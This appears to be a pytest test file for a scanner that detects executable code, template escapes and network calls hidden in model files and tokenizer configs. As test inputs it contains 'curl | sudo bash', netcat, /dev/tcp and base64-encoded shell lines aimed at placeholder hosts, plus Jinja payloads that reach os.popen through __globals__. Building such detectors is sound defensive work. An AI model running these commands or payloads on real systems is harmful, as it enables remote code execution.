"""Model files other than pickles: what stays silent, what is written down."""

from __future__ import annotations

import base64
import io
import json
import marshal
import zlib
from collections.abc import Iterator
from types import ModuleType

import pytest

from scanner.facts.weights.commands import commands
from scanner.facts.weights.marshalled import code_objects
from scanner.facts.weights.programs import literal_calls
from scanner.facts.weights.reading import read_templates, read_weights
from scanner.facts.weights.records import WeightsFacts
from scanner.facts.weights.streams import Allowance, Broken, Expanded
from scanner.inputs.records import Skipped


def facts(name: str, data: bytes) -> WeightsFacts:
    found = read_weights(name, io.BytesIO(data))
    assert isinstance(found, WeightsFacts), found
    return found


def calls(found: WeightsFacts) -> list[str]:
    out = []
    for piece in found.pieces:
        text = piece.text.splitlines()
        out += [text[place.line - 1].partition(" = ")[2] or text[place.line - 1] for place in piece.places]
    return out


def kinds(found: WeightsFacts) -> set[str]:
    return {note.kind for note in found.notes}


# -- silent


def test_a_file_of_no_known_format_is_skipped() -> None:
    for data in (b"", b"\0" * 600, b"\x7fELF" + bytes(64), b"plain text\n"):
        assert read_weights("m.bin", io.BytesIO(data)) == Skipped("m.bin", "is no model format this tool reads")


def test_packings_that_are_not_read_are_named() -> None:
    found = read_weights("m.joblib", io.BytesIO(b"\x04\x22\x4d\x18" + bytes(9)))
    assert found == Skipped("m.joblib", "is packed with lz4, which is not read")


def test_formats_without_code_are_read_and_silent() -> None:
    header = json.dumps({"__metadata__": {"url": "https://example.org"}}).encode()
    assert facts("m.safetensors", len(header).to_bytes(8, "little") + header).pieces == ()
    numbers = b"{'descr': '<f8', 'fortran_order': False, 'shape': (1,), }\n"
    assert facts("m.npy", b"\x93NUMPY\1\0" + len(numbers).to_bytes(2, "little") + numbers + bytes(8)).pieces == ()


@pytest.mark.parametrize(
    "template",
    [
        "{% for m in messages %}{{ m['role'] + ': ' + m.content | trim }}{% endfor %}",
        "{{ raise_exception('see https://example.org') }}{# os.system('x') #}",
        "{%- set ns = namespace(found=false) -%}{{ strftime_now('%d') }}",
    ],
)
def test_honest_templates_are_silent(template: str) -> None:
    assert read_templates("tokenizer_config.json", json.dumps({"chat_template": template})) is None


def test_a_keras_model_of_its_own_layers_is_silent(builder: ModuleType) -> None:
    layer = {"module": "keras.layers", "class_name": "Dense", "config": {"units": 3, "name": "d", "activation": "relu"}}
    config = {"module": "keras", "class_name": "Sequential", "config": {"layers": [layer]}}
    assert facts("m.keras", builder.zipped({"config.json": json.dumps(config).encode()})).pieces == ()


def test_external_data_beside_the_graph_is_silent(builder: ModuleType) -> None:
    found = facts("m.onnx", builder.onnx("weights.bin"))
    assert (found.pieces, found.notes) == ((), ())


# -- speaking


def test_external_data_elsewhere_and_custom_operators_are_noted(builder: ModuleType) -> None:
    assert kinds(facts("m.onnx", builder.onnx("../../etc/passwd"))) == {"external-data-elsewhere"}
    domain = builder.field(8, builder.field(1, b"com.vendor"))
    assert kinds(facts("m.onnx", builder.onnx("w") + domain)) == {"custom-operator"}


def test_a_lambda_layer_is_read_without_unmarshalling(builder: ModuleType) -> None:
    found = facts("m.keras", builder.zipped({"config.json": builder.keras("h.example.net")}))
    assert "urllib.request.urlopen('https://h.example.net/')" in calls(found)
    assert kinds(found) == {"compiled-lambda"}


def test_a_configuration_that_names_a_foreign_callable_calls_it(builder: ModuleType) -> None:
    layer = {"module": "subprocess", "class_name": "run", "config": {"args": ["wget", "http://h.example.net"]}}
    found = facts("m.keras", builder.zipped({"config.json": json.dumps({"class_name": "M", "config": layer}).encode()}))
    assert "subprocess.run(['wget', 'http://h.example.net'])" in calls(found)


def test_a_vocabulary_from_afar_is_an_address(builder: ModuleType) -> None:
    layer = {"class_name": "StringLookup", "config": {"vocabulary": "https://h.example.net/words.txt"}}
    found = facts("m.keras", builder.zipped({"config.json": json.dumps(layer).encode()}))
    assert calls(found) == ["pickle.load.given_url('https://h.example.net/words.txt')"]


@pytest.mark.parametrize(
    ("expression", "written"),
    [
        ("cycler.__init__.__globals__.os.popen('id').read()", "os.popen('id')"),
        ("x['__class__']['__globals__']['os']['system']('id')", "os.system('id')"),
        ("(x|attr('__globals__')).os.popen('id')", None),
        ("self.__init__.__globals__.__builtins__.__import__('os').popen('id')", "os.popen('id')"),
        ("''['\\x5f\\x5fclass\\x5f\\x5f']", None),
    ],
)
def test_templates_that_reach_the_interpreter_speak(expression: str, written: str | None) -> None:
    document = json.dumps({"chat_template": [{"name": "default", "template": "{{ " + expression + " }}"}]})
    found = read_templates("tokenizer_config.json", document)
    assert found is not None and kinds(found) >= {"template-reaches-interpreter"}
    assert written is None or written in calls(found)


def test_targets_of_yaml_are_calls(builder: ModuleType) -> None:
    yaml = b"model:\n  _target_: nemo.collections.asr.Model\n  hook:\n    _target_: 'os.system'\n"
    found = facts("m.nemo", builder.tarred({"model_config.yaml": yaml}))
    assert {"nemo.collections.asr.Model()", "os.system()"} <= set(calls(found))


def test_code_of_an_archive_is_a_piece(builder: ModuleType) -> None:
    found = facts("m.pt", builder.zipped({"m/code/__torch__.py": b"import socket\n", "m/data.pkl": b"\x80\x02N."}))
    assert [(p.shown, p.text) for p in found.pieces] == [("m.pt!m/code/__torch__.py", "import socket\n")]


def test_the_oldest_tar_archives_are_told_by_their_checksum(builder: ModuleType) -> None:
    data = bytearray(builder.tarred({"pickle": builder.pickled(builder.call(builder.name("app", "f")))}))
    data[257:512] = bytes(255)
    data[148:156] = b"%06o\0 " % (sum(data[:148]) + 256 + sum(data[156:512]))
    assert "app.f()" in calls(facts("m.pt", bytes(data)))


def test_a_keras_archive_may_have_something_in_front(builder: ModuleType) -> None:
    data = b"#!/bin/sh\n" + builder.zipped({"config.json": builder.keras("h.example.net")})
    assert calls(facts("m.keras", data))


# -- parts


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("curl -s https://a.example.net/x | sudo bash", [("curl", "https://a.example.net/x")]),
        ("A=1 env B=2 nohup wget a.example.net/x &", [("wget", "a.example.net/x")]),
        ("bash -c 'cd /tmp && nc a.example.net 99'", [("cd", ""), ("nc", "a.example.net")]),
        ("python3.11 -m pip install x", [("pip", "")]),
        ("ssh me@10.0.0.1 ls", [("ssh", "10.0.0.1")]),
        ("cat < /dev/tcp/1.2.3.4/80", [("dev_tcp", "tcp://1.2.3.4:80"), ("cat", "1.2.3.4/80")]),
        ("/usr/bin/git clone 'https://a.example.net/r.git'", [("git", "https://a.example.net/r.git")]),
        ("echo 'unclosed", [("echo", "")]),
        ("", []),
    ],
)
def test_command_lines_name_programs_and_addresses(line: str, expected: list[tuple[str, str]]) -> None:
    assert [(c.program, c.addresses) for c in commands(line)] == expected


def test_code_on_a_command_line_is_handed_on() -> None:
    assert [c.code for c in commands(["python", "-c", "import os"])] == ["import os"]


def test_marshalled_code_gives_constants_and_names() -> None:
    code = compile("import os\ndef f():\n    return os.getpid('https://a')\n", "m", "exec")
    found = {names: constants for constants, names in code_objects(marshal.dumps(code))}
    assert "https://a" in found[("os", "getpid")]


@pytest.mark.parametrize("data", [b"", b"c", b"(\xff\xff\xff\x7f", b"\xe3" * 50, b")\x01" * 100])
def test_damaged_marshalled_code_is_refused(data: bytes) -> None:
    with pytest.raises(Broken):
        list(code_objects(data))


def test_a_stream_that_expands_beyond_its_allowance_is_broken() -> None:
    stream = Expanded(io.BytesIO(zlib.compress(bytes(10_000_000))), "zlib", Allowance(expanded=1_000_000))
    with pytest.raises(Broken, match="expands to more than"):
        list(_all(stream))


def test_a_stream_is_expanded_to_its_last_byte() -> None:
    data = base64.b64encode(bytes(range(256)) * 4_000)
    stream = Expanded(io.BytesIO(zlib.compress(data)), "zlib", Allowance())
    assert b"".join(_all(stream)) == data


def _all(stream: Expanded) -> Iterator[bytes]:
    while chunk := stream.read(7_000):
        yield chunk


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("echo Y3VybCBodHRwczovL2EuZXhhbXBsZS5uZXQ= | base64 -d | sh", "https://a.example.net"),
        ("powershell -enc dwBnAGUAdAAgAGgAdAB0AHAAOgAvAC8AYQAuAGIA", "http://a.b"),
    ],
)
def test_encoded_command_lines_are_decoded(line: str, expected: str) -> None:
    assert expected in {c.addresses for c in commands(line)}


def test_arguments_in_a_program_are_computed_by_decoders_only() -> None:
    code = "import base64\nexec(base64.b64decode('aW1wb3J0IG9z').decode())\nf(open('x').read(), 3)\n"
    found = {callee: given for callee, given, _ in literal_calls(code)}
    assert found["exec"] == ["import os"]
    assert found["f"] == [3]
